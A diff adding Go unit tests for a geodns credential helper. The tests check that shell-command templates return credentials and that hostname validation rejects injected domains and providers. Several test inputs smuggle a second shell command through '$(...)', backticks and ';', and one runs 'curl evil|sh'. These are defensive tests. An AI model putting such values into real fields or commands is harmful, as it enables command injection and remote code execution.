@@ -0,0 +1,70 @@
+package geodns
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestCommandCredentials(t *testing.T) {
+	tests := []struct {
+		command string
+		user    string
+		secret  string
+	}{
+		{`printf '%s\n' {provider} {domain}`, "cloudns", "rpc.ibp.network"},
+		{`printf '%s\n' "{provider}" "{domain}"`, "cloudns", "rpc.ibp.network"},
+		{`printf '%s\n' "$1" "$2"`, "cloudns", "rpc.ibp.network"},
+		{`printf '{"user":"%s","secret":"%s"}' "$GEODNS_PROVIDER" "$GEODNS_DOMAIN"`, "cloudns", "rpc.ibp.network"},
+	}
+	for _, test := range tests {
+		creds, ok, err := CommandCredentials(test.command).Lookup("cloudns", "rpc.ibp.network")
+		if err != nil || !ok {
+			t.Errorf("%s: got %v, %v", test.command, ok, err)
+			continue
+		}
+		if creds.User != test.user || creds.Secret != test.secret {
+			t.Errorf("%s: got %q %q, want %q %q", test.command, creds.User, creds.Secret, test.user, test.secret)
+		}
+	}
+}
+
+func TestCommandCredentialsRejectsInjection(t *testing.T) {
+	marker := filepath.Join(t.TempDir(), "pwned")
+	command := CommandCredentials(`echo user; echo {domain}`)
+
+	for _, domain := range []string{
+		"x.$(touch " + marker + ")",
+		"x.`touch " + marker + "`",
+		"x; touch " + marker,
+		`x" && touch "` + marker,
+		"",
+		"-x.network",
+	} {
+		if _, _, err := command.Lookup("cloudns", domain); err == nil {
+			t.Errorf("accepted domain %q", domain)
+		}
+	}
+	if _, _, err := command.Lookup("cloud$(id)", "ibp.network"); err == nil {
+		t.Error("accepted an invalid provider")
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Fatal("a domain was run as a command")
+	}
+}
+
+func TestValidHostname(t *testing.T) {
+	for name, want := range map[string]bool{
+		"ibp.network":             true,
+		"rpc.dotters.network":     true,
+		"kusama-rpc.ibp.network.": true,
+		"x.$(curl evil|sh)":       false,
+		"a..b":                    false,
+		"a b.network":             false,
+		"a-.network":              false,
+	} {
+		if got := validHostname(name); got != want {
+			t.Errorf("validHostname(%q) = %v, want %v", name, got, want)
+		}
+	}
+}